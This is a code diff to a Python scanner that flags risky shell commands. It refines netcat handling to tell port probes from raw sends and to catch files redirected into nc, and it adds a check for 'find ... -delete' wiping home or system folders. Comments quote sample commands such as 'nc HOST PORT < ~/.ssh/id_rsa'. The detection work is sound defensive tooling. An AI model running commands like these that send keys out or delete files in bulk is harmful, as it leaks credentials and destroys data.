@@ -445,10 +445,17 @@ def _effects(name: str, argv: list[str], words: list[Word], incoming: set[str],
         host = hosts[0] if hosts else "?"
         if host != "?" and not F.is_local_host(host) and "-l" not in argv:
             emit(F.HOST, host, line, "", "")
+            fed = bool(incoming) or any(op.startswith("<") for op, _ in command.redirects)
+            probe = any(re.fullmatch(r"-[a-yA-Z]*z[a-zA-Z]*", a) for a in argv[1:])
+            if probe and not fed:  # `nc -zv 8.8.8.8 53`: a port probe sends nothing
+                emit(F.SEND, host, line, f"probes a port with {name}", F.LITERAL)
+                return set()
             emit(F.SEND, host, line, f"opens a raw connection with {name}", "")
             state.sends = True
-            if {"credential", "env"} & incoming:
-                emit(F.EXFIL, host, line, f"sends {_what(incoming)} with {name}", "high")
+            # what is piped in, or read from a file (`nc HOST PORT < ~/.ssh/id_rsa`)
+            carried = incoming | (args_labels if fed else set())
+            if {"credential", "env"} & carried:
+                emit(F.EXFIL, host, line, f"sends {_what(carried)} with {name}", "high")
         return set()
     if name in _DNS_TOOLS:
         target = next((w for w in words[1:] if not w.text.startswith(("-", "@", "+"))), None)
@@ -484,8 +491,8 @@ def _effects(name: str, argv: list[str], words: list[Word], incoming: set[str],
         return {"env"}
     if name == "rm" or name == "remove-item" or name == "rmdir":
         _remove([_expand(a, state) for a in argv], emit, line, state.cwd)
-    elif name == "find" and "-delete" in argv and argv[1:2] and F.wipe_target(argv[1]):
-        emit(F.DESTROY, argv[1], line, "deletes everything below it", "high")
+    elif name == "find" and "-delete" in argv and argv[1:2]:
+        _find_delete(argv, emit, line)
     elif name in ("mkfs", "wipefs") or name.startswith("mkfs.") or (
             name == "shred" and any(a.startswith("/dev/") for a in argv[1:])):
         # formatting a device is how storage is set up (an LVM volume, a server's data disk):
@@ -732,6 +739,26 @@ def _downloaded_from(file: str, state: ShellState, line: int | None = None) -> s
     elif file in state.checksum_shown:
         where += F.CHECKSUM_SHOWN
     return where
+
+
+#: ``find`` tests that keep ``-delete`` to the files they match
+_FIND_FILTERS = frozenset({"-name", "-iname", "-path", "-ipath", "-wholename", "-regex",
+                           "-iregex"})
+
+
+def _find_delete(argv: list[str], emit: F.Emit, line: int) -> None:
+    """``find ROOT ... -delete``: everything below a home folder or the system is lost (an
+    error), unless a name test narrows it to some files (`-name "*.log"`: a warning, as for
+    other deletes outside the skill)."""
+    root = argv[1]
+    pattern = next((argv[i + 1] for i, arg in enumerate(argv[:-1]) if arg in _FIND_FILTERS),
+                   None)
+    narrowed = pattern is not None and pattern.strip("\"'") not in ("", "*")
+    if F.wipe_target(root) and not narrowed:
+        emit(F.DESTROY, root, line, "deletes everything below it", "high")
+    elif (F.wipe_target(root) or F.outside_skill(root)) and not F.is_temporary(root):
+        what = f"the files matching {pattern} below {root}" if narrowed else root
+        emit(F.DESTROY, root, line, f"deletes {what}, outside the skill", "")
 
 
 def _in_folder(cwd: str | None, arg: str) -> str:
